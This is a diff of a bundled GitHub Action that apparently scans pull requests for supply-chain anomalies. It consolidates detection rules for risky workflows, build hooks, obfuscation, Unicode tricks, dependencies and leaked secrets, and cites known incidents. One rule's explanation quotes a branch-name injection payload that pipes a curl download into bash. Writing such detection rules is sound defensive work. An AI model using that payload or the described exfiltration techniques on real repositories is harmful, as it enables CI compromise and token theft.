@@ -9841,8 +9841,8 @@ exports.basename = (path, { windows } = {}) => {
 /***/ ((module, __unused_webpack___webpack_exports__, __nccwpck_require__) => {
 
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
-/* harmony import */ var _security_actions_core__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(8863);
-/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(9116);
+/* harmony import */ var _security_actions_core__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(2530);
+/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(3858);
 // Entry point of the bundle the runner starts; all logic lives in main.ts.
 
 
@@ -9853,7 +9853,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 9116:
+/***/ 3858:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -9866,8 +9866,8 @@ __nccwpck_require__.d(__webpack_exports__, {
 
 // EXTERNAL MODULE: external "node:path"
 var external_node_path_ = __nccwpck_require__(6760);
-// EXTERNAL MODULE: ./packages/core/src/index.ts + 37 modules
-var src = __nccwpck_require__(8863);
+// EXTERNAL MODULE: ./packages/core/src/index.ts + 39 modules
+var src = __nccwpck_require__(2530);
 ;// CONCATENATED MODULE: external "node:child_process"
 const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/git.ts
@@ -10227,6 +10227,9 @@ async function readFileAt(repo, commit, path) {
 // EXTERNAL MODULE: external "node:crypto"
 var external_node_crypto_ = __nccwpck_require__(7598);
 ;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/rules.ts
+// Rules of pr-anomaly-scan. Ids are stable: configs, inline ignores and
+// code-scanning alerts refer to them. `family` groups them for the risk score.
+
 const XZ = {
     title: 'xz-utils backdoor (CVE-2024-3094)',
     url: 'https://www.openwall.com/lists/oss-security/2024/03/29/4'
@@ -10245,433 +10248,388 @@ const PYTORCH = {
     title: 'PyTorch self-hosted runner compromise (2024)',
     url: 'https://johnstawinski.com/2024/01/11/playing-with-fire-how-we-executed-a-critical-supply-chain-attack-on-pytorch/'
 };
-function rule(family, r) {
-    return { family, ...r, id: `${family}/${r.id}` };
-}
 // --- workflows ---------------------------------------------------------------
-const WF_DANGEROUS_TRIGGER = rule('workflow', {
-    id: 'dangerous-trigger',
-    title: 'pull_request_target / workflow_run workflow that uses PR code',
-    severity: 'critical',
-    why: "These triggers run with the base repository's secrets and a write token. Checking out or running the PR head there lets anyone who opens a PR run code with those privileges (the PyTorch and Ultralytics compromises).",
-    remediation: 'Use `on: pull_request` for anything that builds or tests PR code; keep `pull_request_target` for labelling or commenting without checking out the head.',
-    spec: ['S8-16', 'S8-6'],
-    references: [ULTRALYTICS, PYTORCH]
+const RULES = (0,src/* defineRules */.x0)({
+    WF_DANGEROUS_TRIGGER: {
+        id: 'workflow/dangerous-trigger',
+        title: 'pull_request_target / workflow_run workflow that uses PR code',
+        severity: 'critical',
+        why: "These triggers run with the base repository's secrets and a write token. Checking out or running the PR head there lets anyone who opens a PR run code with those privileges (the PyTorch and Ultralytics compromises).",
+        remediation: 'Use `on: pull_request` for anything that builds or tests PR code; keep `pull_request_target` for labelling or commenting without checking out the head.',
+        spec: ['S8-16', 'S8-6'],
+        references: [ULTRALYTICS, PYTORCH]
+    },
+    WF_TEMPLATE_INJECTION: {
+        id: 'workflow/template-injection',
+        title: 'Attacker-controlled expression expanded into a script',
+        severity: 'high',
+        why: '`${{ }}` is pasted into the script before the shell runs it, so a PR title, branch name or comment containing `$(...)` runs as code (Ultralytics).',
+        remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
+        spec: ['S8-16'],
+        references: [ULTRALYTICS]
+    },
+    WF_SECRETS_EXFIL: {
+        id: 'workflow/secrets-to-outside-host',
+        title: 'Workflow sends secrets to an outside host',
+        severity: 'critical',
+        why: 'A step that uses secrets and talks to a host other than GitHub or the package index is how GhostAction and Shai-Hulud stole tokens.',
+        remediation: "Remove the step; if a secret must reach a service, use that service's official action pinned by SHA, or OIDC.",
+        spec: ['S6-7', 'S8-16'],
+        references: [GHOST]
+    },
+    WF_TOJSON_SECRETS: {
+        id: 'workflow/all-secrets',
+        title: '`toJSON(secrets)` or `secrets: inherit` exposes every secret',
+        severity: 'high',
+        why: 'Serialising the whole secrets context hands every repository and organisation secret to one step.',
+        remediation: 'Pass only the named secrets the step needs.',
+        spec: ['S6-7', 'S6-4'],
+        references: [GHOST]
+    },
+    WF_SELF_HOSTED: {
+        id: 'workflow/self-hosted-pr',
+        title: 'Self-hosted runner reachable from pull requests',
+        severity: 'high',
+        why: 'Anyone who opens a PR can run code on a self-hosted runner triggered by PR events and persist on it (PyTorch).',
+        remediation: 'Run PR jobs on GitHub-hosted runners, or use ephemeral runners with approval required for outside contributors.',
+        spec: ['S8-16'],
+        references: [PYTORCH]
+    },
+    WF_UNPINNED: {
+        id: 'workflow/unpinned-uses',
+        title: 'New action reference not pinned to a commit SHA',
+        severity: 'medium',
+        why: 'A tag can be moved to new code by whoever controls the action (tj-actions).',
+        remediation: 'Pin the action to the full commit SHA with the version as a comment.',
+        spec: ['S8-9'],
+        references: [TJ]
+    },
+    WF_PERMISSIONS: {
+        id: 'workflow/write-permissions',
+        title: 'New write permissions for the workflow token',
+        severity: 'medium',
+        why: 'A broader token turns any code-execution bug in the workflow into repository write access. Medium for `write-all`, for a write to code, releases, packages, PRs or the OIDC identity at the workflow level (every job gets it), and for such a write in a workflow that runs on `pull_request_target`, `workflow_run`, `issues`, `issue_comment` or discussion events (anyone can start it); low for a scope granted to the one job that needs it, which a reviewer confirms.',
+        remediation: 'Default to `permissions: contents: read` and grant writes only to the job that needs them.',
+        spec: ['S8-6']
+    },
+    WF_UNTRUSTED_TRIGGER: {
+        id: 'workflow/untrusted-trigger',
+        title: 'New trigger on comments or discussions',
+        severity: 'medium',
+        why: "Anyone can open a discussion or comment; workflows on these events run with the repository's privileges and are a common command-and-control channel (Shai-Hulud).",
+        remediation: 'Check `author_association` before acting on the event and never interpolate its body into scripts.',
+        spec: ['S8-16'],
+        references: [GHOST]
+    },
+    WF_RUNNER_REGISTRATION: {
+        id: 'workflow/runner-registration',
+        title: 'Workflow registers a self-hosted runner',
+        severity: 'critical',
+        why: 'Registering a runner from a workflow is how an attacker plants a persistent backdoor runner (Shai-Hulud).',
+        remediation: 'Remove the step; register runners by hand from a trusted machine.',
+        spec: ['S8-16'],
+        references: [GHOST]
+    },
+    // --- build system ------------------------------------------------------------
+    BUILD_SETUP_PY: {
+        id: 'build/setup-py',
+        title: 'setup.py gains install-time code (cmdclass, network, processes)',
+        severity: 'high',
+        why: "`setup.py` runs on every source install and build; a custom command, download or process start there runs on maintainers' and users' machines.",
+        remediation: 'Move build logic to a declarative `pyproject.toml`; review any network or process call line by line.',
+        spec: ['S8-16']
+    },
+    BUILD_BACKEND: {
+        id: 'build/build-backend',
+        title: 'Build backend changed',
+        severity: 'high',
+        why: '`[build-system]` decides which code builds the package; `backend-path` points it at code inside the repository.',
+        remediation: 'Confirm the backend is a known package at a pinned version; reject `backend-path` unless the in-tree backend was reviewed.',
+        spec: ['S8-16']
+    },
+    BUILD_NATIVE: {
+        id: 'build/native-build-script',
+        title: 'Meson or CMake script runs commands or downloads',
+        severity: 'medium',
+        why: '`run_command`, `custom_target`, `execute_process` and `file(DOWNLOAD)` run at configure time on every build machine.',
+        remediation: 'Review the command and what it reads; prefer vendored, hashed inputs over downloads.',
+        spec: ['S8-16'],
+        references: [XZ]
+    },
+    BUILD_AUTOTOOLS: {
+        id: 'build/autotools',
+        title: 'Autotools or m4 macro changed',
+        severity: 'high',
+        why: 'The xz backdoor was triggered by an edited `build-to-host.m4`; m4 is rarely reviewed and runs shell at configure time.',
+        remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
+        spec: ['S8-16'],
+        references: [XZ]
+    },
+    BUILD_TEST_HOOK: {
+        id: 'build/test-runner-hook',
+        title: 'Test or task runner configuration runs processes or downloads',
+        severity: 'medium',
+        why: '`conftest.py`, `noxfile.py` and `tox.ini` run on every test run, often in CI with secrets.',
+        remediation: 'Review the added command; keep network and process calls out of test configuration.',
+        spec: ['S8-16']
+    },
+    BUILD_PRECOMMIT_LOCAL: {
+        id: 'build/pre-commit-local',
+        title: 'Local pre-commit hook added',
+        severity: 'medium',
+        why: "A `repo: local` hook runs an arbitrary command on every contributor's machine and in CI.",
+        remediation: 'Prefer hooks from pinned upstream repositories; review the entry command.',
+        spec: ['S8-16']
+    },
+    BUILD_PTH: {
+        id: 'build/pth-file',
+        title: '`.pth` file added',
+        severity: 'high',
+        why: 'Lines starting with `import` in a `.pth` file run at every Python start-up once installed.',
+        remediation: 'Remove the file unless it only lists paths.',
+        spec: ['S8-16']
+    },
+    BUILD_IMPORT_PROCESS: {
+        id: 'build/import-time-process',
+        title: 'Process or thread started at import time',
+        severity: 'medium',
+        why: 'Module-level process starts run as soon as the package is imported, including in tests and by users (lightning 2026).',
+        remediation: 'Move the call into a function called explicitly.',
+        spec: ['S8-16']
+    },
+    // --- opaque content ----------------------------------------------------------
+    BIN_OPAQUE: {
+        id: 'binary/opaque-file',
+        title: 'Opaque binary file added or changed',
+        severity: 'medium',
+        why: 'Reviewers cannot read binaries; the xz backdoor payload hid in "corrupt" test files.',
+        remediation: 'Ask for the script that generates the file, regenerate it, and compare hashes.',
+        spec: ['S8-16'],
+        references: [XZ],
+        pathIgnorable: false
+    },
+    BIN_EXECUTABLE: {
+        id: 'binary/executable',
+        title: 'Executable or loadable binary added',
+        severity: 'high',
+        why: 'A compiled executable, shared library or pickle runs code when loaded, and cannot be reviewed.',
+        remediation: 'Build it from source in CI instead; replace pickles with a data format (NPY, HDF5, JSON).',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    BIN_ARCHIVE_TESTS: {
+        id: 'binary/compressed-test-data',
+        title: 'Compressed archive or blob under tests',
+        severity: 'medium',
+        why: "Compressed test fixtures can carry anything; xz's payload was in `tests/files/*.xz`.",
+        remediation: 'Ask how the fixture was generated and regenerate it yourself.',
+        spec: ['S8-16'],
+        references: [XZ],
+        pathIgnorable: false
+    },
+    BIN_ONLY: {
+        id: 'binary/binary-only-change',
+        title: 'Binary files changed with no text change',
+        severity: 'high',
+        why: 'Replacing test fixtures without touching any code or test is how the xz payload was updated (5.6.1).',
+        remediation: 'Require the generator script and a reason in the PR; regenerate the files.',
+        spec: ['S8-16'],
+        references: [XZ],
+        pathIgnorable: false
+    },
+    // --- obfuscation ---------------------------------------------------------------
+    OBF_ENCODED_EXEC: {
+        id: 'obfuscation/encoded-exec',
+        title: 'Encoded data reaches code execution',
+        severity: 'critical',
+        why: 'Decoding a literal and passing it to exec/eval/a shell hides the code from reviewers; almost no honest code does this.',
+        remediation: 'Decode the literal yourself and read it; reject the change unless the plain code is committed instead.',
+        spec: ['S8-16'],
+        references: [TJ],
+        pathIgnorable: false
+    },
+    OBF_LONG_LITERAL: {
+        id: 'obfuscation/long-encoded-literal',
+        title: 'Long base64 or hex literal added',
+        severity: 'low',
+        why: 'Long encoded blobs are where payloads hide; on their own they are weak evidence (images, test vectors).',
+        remediation: 'Check what the data decodes to and where it is used.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_DECOMPRESS: {
+        id: 'obfuscation/decompress-literal',
+        title: 'Literal decompressed or unmarshalled in code',
+        severity: 'high',
+        why: '`marshal.loads`, `zlib`/`lzma`/`bz2` decompression of inline data produces code or data no reviewer saw.',
+        remediation: 'Commit the plain content instead.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_CHR_CHAIN: {
+        id: 'obfuscation/char-code-chain',
+        title: 'String built from character codes',
+        severity: 'medium',
+        why: '`chr(..)+chr(..)` and `String.fromCharCode(...)` chains hide names like `exec` or URLs from search and review.',
+        remediation: 'Replace with the plain string and check what it was.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_PACKER: {
+        id: 'obfuscation/packer',
+        title: 'Packed or obfuscated code',
+        severity: 'high',
+        why: 'PyArmor runtimes, JavaScript packers and obfuscator output exist to stop people reading code.',
+        remediation: 'Reject packed code; ask for the source.',
+        spec: ['S8-16'],
+        pathIgnorable: false
+    },
+    OBF_BUNDLE: {
+        id: 'obfuscation/bundled-js-payload',
+        title: 'Payload added to bundled JavaScript',
+        severity: 'high',
+        why: 'Bundled `dist/` files are generated and rarely reviewed; tj-actions was compromised by a base64 payload added to `dist/index.js`.',
+        remediation: 'Rebuild the bundle from source in CI and compare; reject hand edits of generated files.',
+        spec: ['S8-16'],
+        references: [TJ],
+        pathIgnorable: false
+    },
+    // --- Unicode ---------------------------------------------------------------------
+    UNI_BIDI: {
+        id: 'unicode/bidi-control',
+        title: 'Bidirectional control character',
+        severity: 'high',
+        why: 'Bidi controls make code display in a different order from how it runs (Trojan Source).',
+        remediation: 'Remove the character; GitHub shows a warning banner on such files.',
+        spec: ['S8-16'],
+        references: [TROJAN],
+        pathIgnorable: false
+    },
+    UNI_INVISIBLE: {
+        id: 'unicode/invisible-character',
+        title: 'Invisible character in code',
+        severity: 'high',
+        why: 'Zero-width characters, variation selectors and blank look-alikes hide identifiers or whole payloads (GlassWorm).',
+        remediation: 'Remove the character or write it as an escape (`\\u200b`).',
+        spec: ['S8-16'],
+        references: [TROJAN],
+        pathIgnorable: false
+    },
+    UNI_HOMOGLYPH: {
+        id: 'unicode/homoglyph',
+        title: 'Look-alike letters from another script',
+        severity: 'high',
+        why: 'A Cyrillic `а` or Greek `ο` in a Latin identifier or string makes two different names look the same (Trojan Source homoglyph attack).',
+        remediation: 'Replace the look-alike with the Latin letter, or use an escape if the foreign letter is intended.',
+        spec: ['S8-16'],
+        references: [TROJAN],
+        pathIgnorable: false
+    },
+    // --- dependencies -----------------------------------------------------------------
+    DEP_NEW: {
+        id: 'deps/new-dependency',
+        title: 'New dependency',
+        severity: 'info',
+        why: "Each new dependency is code that runs in your users' environments.",
+        remediation: 'Check the project is maintained and the name is the one intended.',
+        spec: ['S8-16']
+    },
+    DEP_TYPOSQUAT: {
+        id: 'deps/typosquat',
+        title: 'Dependency name close to a popular package',
+        severity: 'high',
+        why: 'Typosquatted names are a common way malware reaches Python environments.',
+        remediation: 'Use the exact name of the intended package.',
+        spec: ['S8-16']
+    },
+    DEP_DIRECT_URL: {
+        id: 'deps/direct-url',
+        title: 'Direct URL or VCS dependency',
+        severity: 'medium',
+        why: 'A URL or git dependency bypasses the index and can change under the same name.',
+        remediation: 'Depend on a released version from PyPI, or pin the commit and hash.',
+        spec: ['S8-16']
+    },
+    DEP_INDEX_URL: {
+        id: 'deps/index-url',
+        title: 'New package index',
+        severity: 'high',
+        why: 'An extra or replaced index lets another server supply any package (dependency confusion).',
+        remediation: 'Remove the index option unless it is an index you run.',
+        spec: ['S8-16']
+    },
+    // --- metadata -----------------------------------------------------------------------
+    META_REF_INJECTION: {
+        id: 'meta/branch-name-shell',
+        title: 'Shell syntax in the branch name',
+        severity: 'high',
+        why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
+        remediation: 'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
+        spec: ['S8-16'],
+        references: [ULTRALYTICS]
+    },
+    META_EMPTY_NEW: {
+        id: 'meta/empty-pr-new-account',
+        title: 'Near-empty PR from a new account',
+        severity: 'medium',
+        why: 'Empty PRs from fresh accounts are used to trigger `pull_request_target` workflows or to probe CI.',
+        remediation: 'Do not approve workflow runs for this PR until you know why it exists.',
+        spec: ['S8-16']
+    },
+    META_BOT_IDENTITY: {
+        id: 'meta/unverified-bot-identity',
+        title: 'Commit claims a bot identity without verification',
+        severity: 'high',
+        why: "Anyone can set their git author to `github-actions[bot]`; tj-actions' malicious commit posed as Renovate.",
+        remediation: 'Only trust bot commits that GitHub shows as Verified; ask the author to re-commit under their own identity.',
+        spec: ['S8-4'],
+        references: [TJ]
+    },
+    META_GOVERNANCE: {
+        id: 'meta/governance-edit',
+        title: 'CODEOWNERS, CI or scanner configuration changed',
+        severity: 'medium',
+        why: 'These files decide who must review and what runs in CI; changing them can remove the next line of defence.',
+        remediation: 'Have a maintainer who owns CI review the change.',
+        spec: ['S6-1', 'S8-5']
+    },
+    META_NEW_AUTHOR: {
+        id: 'meta/new-author-sensitive-paths',
+        title: 'First-time contributor changes sensitive files',
+        severity: 'medium',
+        why: 'Build files, workflows and binaries from an author without history deserve the closest review (PyTorch, xz).',
+        remediation: 'Review these files line by line before approving workflow runs.',
+        spec: ['S8-16']
+    },
+    META_AUTORUN: {
+        id: 'meta/ide-autorun',
+        title: 'File that makes an IDE or agent run code',
+        severity: 'high',
+        why: '`.vscode/tasks.json` with `folderOpen`, devcontainer lifecycle commands and agent hooks run as soon as a maintainer opens the checkout (Shai-Hulud).',
+        remediation: 'Remove the auto-run entry; never open untrusted checkouts in trusted mode.',
+        spec: ['S8-16'],
+        references: [GHOST]
+    },
+    META_SUPPRESSION: {
+        id: 'meta/suppression-added',
+        title: 'PR adds an inline suppression',
+        severity: 'medium',
+        why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
+        remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
+        spec: ['S8-16']
+    },
+    // --- secrets ---------------------------------------------------------------------------
+    SECRET: {
+        id: 'secrets/credential',
+        title: 'Credential added',
+        severity: 'critical',
+        why: 'A committed credential is public as soon as the PR is pushed.',
+        remediation: 'Revoke the credential now, then remove it from the branch.',
+        spec: ['S6-7', 'S6-5'],
+        pathIgnorable: false
+    }
 });
-const WF_TEMPLATE_INJECTION = rule('workflow', {
-    id: 'template-injection',
-    title: 'Attacker-controlled expression expanded into a script',
-    severity: 'high',
-    why: '`${{ }}` is pasted into the script before the shell runs it, so a PR title, branch name or comment containing `$(...)` runs as code (Ultralytics).',
-    remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
-    spec: ['S8-16'],
-    references: [ULTRALYTICS]
-});
-const WF_SECRETS_EXFIL = rule('workflow', {
-    id: 'secrets-to-outside-host',
-    title: 'Workflow sends secrets to an outside host',
-    severity: 'critical',
-    why: 'A step that uses secrets and talks to a host other than GitHub or the package index is how GhostAction and Shai-Hulud stole tokens.',
-    remediation: "Remove the step; if a secret must reach a service, use that service's official action pinned by SHA, or OIDC.",
-    spec: ['S6-7', 'S8-16'],
-    references: [GHOST]
-});
-const WF_TOJSON_SECRETS = rule('workflow', {
-    id: 'all-secrets',
-    title: '`toJSON(secrets)` or `secrets: inherit` exposes every secret',
-    severity: 'high',
-    why: 'Serialising the whole secrets context hands every repository and organisation secret to one step.',
-    remediation: 'Pass only the named secrets the step needs.',
-    spec: ['S6-7', 'S6-4'],
-    references: [GHOST]
-});
-const WF_SELF_HOSTED = rule('workflow', {
-    id: 'self-hosted-pr',
-    title: 'Self-hosted runner reachable from pull requests',
-    severity: 'high',
-    why: 'Anyone who opens a PR can run code on a self-hosted runner triggered by PR events and persist on it (PyTorch).',
-    remediation: 'Run PR jobs on GitHub-hosted runners, or use ephemeral runners with approval required for outside contributors.',
-    spec: ['S8-16'],
-    references: [PYTORCH]
-});
-const WF_UNPINNED = rule('workflow', {
-    id: 'unpinned-uses',
-    title: 'New action reference not pinned to a commit SHA',
-    severity: 'medium',
-    why: 'A tag can be moved to new code by whoever controls the action (tj-actions).',
-    remediation: 'Pin the action to the full commit SHA with the version as a comment.',
-    spec: ['S8-9'],
-    references: [TJ]
-});
-const WF_PERMISSIONS = rule('workflow', {
-    id: 'write-permissions',
-    title: 'New write permissions for the workflow token',
-    severity: 'medium',
-    why: 'A broader token turns any code-execution bug in the workflow into repository write access. Medium for `write-all`, for a write to code, releases, packages, PRs or the OIDC identity at the workflow level (every job gets it), and for such a write in a workflow that runs on `pull_request_target`, `workflow_run`, `issues`, `issue_comment` or discussion events (anyone can start it); low for a scope granted to the one job that needs it, which a reviewer confirms.',
-    remediation: 'Default to `permissions: contents: read` and grant writes only to the job that needs them.',
-    spec: ['S8-6']
-});
-const WF_UNTRUSTED_TRIGGER = rule('workflow', {
-    id: 'untrusted-trigger',
-    title: 'New trigger on comments or discussions',
-    severity: 'medium',
-    why: "Anyone can open a discussion or comment; workflows on these events run with the repository's privileges and are a common command-and-control channel (Shai-Hulud).",
-    remediation: 'Check `author_association` before acting on the event and never interpolate its body into scripts.',
-    spec: ['S8-16'],
-    references: [GHOST]
-});
-const WF_RUNNER_REGISTRATION = rule('workflow', {
-    id: 'runner-registration',
-    title: 'Workflow registers a self-hosted runner',
-    severity: 'critical',
-    why: 'Registering a runner from a workflow is how an attacker plants a persistent backdoor runner (Shai-Hulud).',
-    remediation: 'Remove the step; register runners by hand from a trusted machine.',
-    spec: ['S8-16'],
-    references: [GHOST]
-});
-// --- build system ------------------------------------------------------------
-const BUILD_SETUP_PY = rule('build', {
-    id: 'setup-py',
-    title: 'setup.py gains install-time code (cmdclass, network, processes)',
-    severity: 'high',
-    why: "`setup.py` runs on every source install and build; a custom command, download or process start there runs on maintainers' and users' machines.",
-    remediation: 'Move build logic to a declarative `pyproject.toml`; review any network or process call line by line.',
-    spec: ['S8-16']
-});
-const BUILD_BACKEND = rule('build', {
-    id: 'build-backend',
-    title: 'Build backend changed',
-    severity: 'high',
-    why: '`[build-system]` decides which code builds the package; `backend-path` points it at code inside the repository.',
-    remediation: 'Confirm the backend is a known package at a pinned version; reject `backend-path` unless the in-tree backend was reviewed.',
-    spec: ['S8-16']
-});
-const BUILD_NATIVE = rule('build', {
-    id: 'native-build-script',
-    title: 'Meson or CMake script runs commands or downloads',
-    severity: 'medium',
-    why: '`run_command`, `custom_target`, `execute_process` and `file(DOWNLOAD)` run at configure time on every build machine.',
-    remediation: 'Review the command and what it reads; prefer vendored, hashed inputs over downloads.',
-    spec: ['S8-16'],
-    references: [XZ]
-});
-const BUILD_AUTOTOOLS = rule('build', {
-    id: 'autotools',
-    title: 'Autotools or m4 macro changed',
-    severity: 'high',
-    why: 'The xz backdoor was triggered by an edited `build-to-host.m4`; m4 is rarely reviewed and runs shell at configure time.',
-    remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
-    spec: ['S8-16'],
-    references: [XZ]
-});
-const BUILD_TEST_HOOK = rule('build', {
-    id: 'test-runner-hook',
-    title: 'Test or task runner configuration runs processes or downloads',
-    severity: 'medium',
-    why: '`conftest.py`, `noxfile.py` and `tox.ini` run on every test run, often in CI with secrets.',
-    remediation: 'Review the added command; keep network and process calls out of test configuration.',
-    spec: ['S8-16']
-});
-const BUILD_PRECOMMIT_LOCAL = rule('build', {
-    id: 'pre-commit-local',
-    title: 'Local pre-commit hook added',
-    severity: 'medium',
-    why: "A `repo: local` hook runs an arbitrary command on every contributor's machine and in CI.",
-    remediation: 'Prefer hooks from pinned upstream repositories; review the entry command.',
-    spec: ['S8-16']
-});
-const BUILD_PTH = rule('build', {
-    id: 'pth-file',
-    title: '`.pth` file added',
-    severity: 'high',
-    why: 'Lines starting with `import` in a `.pth` file run at every Python start-up once installed.',
-    remediation: 'Remove the file unless it only lists paths.',
-    spec: ['S8-16']
-});
-const BUILD_IMPORT_PROCESS = rule('build', {
-    id: 'import-time-process',
-    title: 'Process or thread started at import time',
-    severity: 'medium',
-    why: 'Module-level process starts run as soon as the package is imported, including in tests and by users (lightning 2026).',
-    remediation: 'Move the call into a function called explicitly.',
-    spec: ['S8-16']
-});
-// --- opaque content ----------------------------------------------------------
-const BIN_OPAQUE = rule('binary', {
-    id: 'opaque-file',
-    title: 'Opaque binary file added or changed',
-    severity: 'medium',
-    why: 'Reviewers cannot read binaries; the xz backdoor payload hid in "corrupt" test files.',
-    remediation: 'Ask for the script that generates the file, regenerate it, and compare hashes.',
-    spec: ['S8-16'],
-    references: [XZ],
-    pathIgnorable: false
-});
-const BIN_EXECUTABLE = rule('binary', {
-    id: 'executable',
-    title: 'Executable or loadable binary added',
-    severity: 'high',
-    why: 'A compiled executable, shared library or pickle runs code when loaded, and cannot be reviewed.',
-    remediation: 'Build it from source in CI instead; replace pickles with a data format (NPY, HDF5, JSON).',
-    spec: ['S8-16'],
-    pathIgnorable: false
-});
-const BIN_ARCHIVE_TESTS = rule('binary', {
-    id: 'compressed-test-data',
-    title: 'Compressed archive or blob under tests',
-    severity: 'medium',
-    why: "Compressed test fixtures can carry anything; xz's payload was in `tests/files/*.xz`.",
-    remediation: 'Ask how the fixture was generated and regenerate it yourself.',
-    spec: ['S8-16'],
-    references: [XZ],
-    pathIgnorable: false
-});
-const BIN_ONLY = rule('binary', {
-    id: 'binary-only-change',
-    title: 'Binary files changed with no text change',
-    severity: 'high',
-    why: 'Replacing test fixtures without touching any code or test is how the xz payload was updated (5.6.1).',
-    remediation: 'Require the generator script and a reason in the PR; regenerate the files.',
-    spec: ['S8-16'],
-    references: [XZ],
-    pathIgnorable: false
-});
-// --- obfuscation ---------------------------------------------------------------
-const OBF_ENCODED_EXEC = rule('obfuscation', {
-    id: 'encoded-exec',
-    title: 'Encoded data reaches code execution',
-    severity: 'critical',
-    why: 'Decoding a literal and passing it to exec/eval/a shell hides the code from reviewers; almost no honest code does this.',
-    remediation: 'Decode the literal yourself and read it; reject the change unless the plain code is committed instead.',
-    spec: ['S8-16'],
-    references: [TJ],
-    pathIgnorable: false
-});
-const OBF_LONG_LITERAL = rule('obfuscation', {
-    id: 'long-encoded-literal',
-    title: 'Long base64 or hex literal added',
-    severity: 'low',
-    why: 'Long encoded blobs are where payloads hide; on their own they are weak evidence (images, test vectors).',
-    remediation: 'Check what the data decodes to and where it is used.',
-    spec: ['S8-16'],
-    pathIgnorable: false
-});
-const OBF_DECOMPRESS = rule('obfuscation', {
-    id: 'decompress-literal',
-    title: 'Literal decompressed or unmarshalled in code',
-    severity: 'high',
-    why: '`marshal.loads`, `zlib`/`lzma`/`bz2` decompression of inline data produces code or data no reviewer saw.',
-    remediation: 'Commit the plain content instead.',
-    spec: ['S8-16'],
-    pathIgnorable: false
-});
-const OBF_CHR_CHAIN = rule('obfuscation', {
-    id: 'char-code-chain',
-    title: 'String built from character codes',
-    severity: 'medium',
-    why: '`chr(..)+chr(..)` and `String.fromCharCode(...)` chains hide names like `exec` or URLs from search and review.',
-    remediation: 'Replace with the plain string and check what it was.',
-    spec: ['S8-16'],
-    pathIgnorable: false
-});
-const OBF_PACKER = rule('obfuscation', {
-    id: 'packer',
-    title: 'Packed or obfuscated code',
-    severity: 'high',
-    why: 'PyArmor runtimes, JavaScript packers and obfuscator output exist to stop people reading code.',
-    remediation: 'Reject packed code; ask for the source.',
-    spec: ['S8-16'],
-    pathIgnorable: false
-});
-const OBF_BUNDLE = rule('obfuscation', {
-    id: 'bundled-js-payload',
-    title: 'Payload added to bundled JavaScript',
-    severity: 'high',
-    why: 'Bundled `dist/` files are generated and rarely reviewed; tj-actions was compromised by a base64 payload added to `dist/index.js`.',
-    remediation: 'Rebuild the bundle from source in CI and compare; reject hand edits of generated files.',
-    spec: ['S8-16'],
-    references: [TJ],
-    pathIgnorable: false
-});
-// --- Unicode ---------------------------------------------------------------------
-const UNI_BIDI = rule('unicode', {
-    id: 'bidi-control',
-    title: 'Bidirectional control character',
-    severity: 'high',
-    why: 'Bidi controls make code display in a different order from how it runs (Trojan Source).',
-    remediation: 'Remove the character; GitHub shows a warning banner on such files.',
-    spec: ['S8-16'],
-    references: [TROJAN],
-    pathIgnorable: false
-});
-const UNI_INVISIBLE = rule('unicode', {
-    id: 'invisible-character',
-    title: 'Invisible character in code',
-    severity: 'high',
-    why: 'Zero-width characters, variation selectors and blank look-alikes hide identifiers or whole payloads (GlassWorm).',
-    remediation: 'Remove the character or write it as an escape (`\\u200b`).',
-    spec: ['S8-16'],
-    references: [TROJAN],
-    pathIgnorable: false
-});
-const UNI_HOMOGLYPH = rule('unicode', {
-    id: 'homoglyph',
-    title: 'Look-alike letters from another script',
-    severity: 'high',
-    why: 'A Cyrillic `а` or Greek `ο` in a Latin identifier or string makes two different names look the same (Trojan Source homoglyph attack).',
-    remediation: 'Replace the look-alike with the Latin letter, or use an escape if the foreign letter is intended.',
-    spec: ['S8-16'],
-    references: [TROJAN],
-    pathIgnorable: false
-});
-// --- dependencies -----------------------------------------------------------------
-const DEP_NEW = rule('deps', {
-    id: 'new-dependency',
-    title: 'New dependency',
-    severity: 'info',
-    why: "Each new dependency is code that runs in your users' environments.",
-    remediation: 'Check the project is maintained and the name is the one intended.',
-    spec: ['S8-16']
-});
-const DEP_TYPOSQUAT = rule('deps', {
-    id: 'typosquat',
-    title: 'Dependency name close to a popular package',
-    severity: 'high',
-    why: 'Typosquatted names are a common way malware reaches Python environments.',
-    remediation: 'Use the exact name of the intended package.',
-    spec: ['S8-16']
-});
-const DEP_DIRECT_URL = rule('deps', {
-    id: 'direct-url',
-    title: 'Direct URL or VCS dependency',
-    severity: 'medium',
-    why: 'A URL or git dependency bypasses the index and can change under the same name.',
-    remediation: 'Depend on a released version from PyPI, or pin the commit and hash.',
-    spec: ['S8-16']
-});
-const DEP_INDEX_URL = rule('deps', {
-    id: 'index-url',
-    title: 'New package index',
-    severity: 'high',
-    why: 'An extra or replaced index lets another server supply any package (dependency confusion).',
-    remediation: 'Remove the index option unless it is an index you run.',
-    spec: ['S8-16']
-});
-// --- metadata -----------------------------------------------------------------------
-const META_REF_INJECTION = rule('meta', {
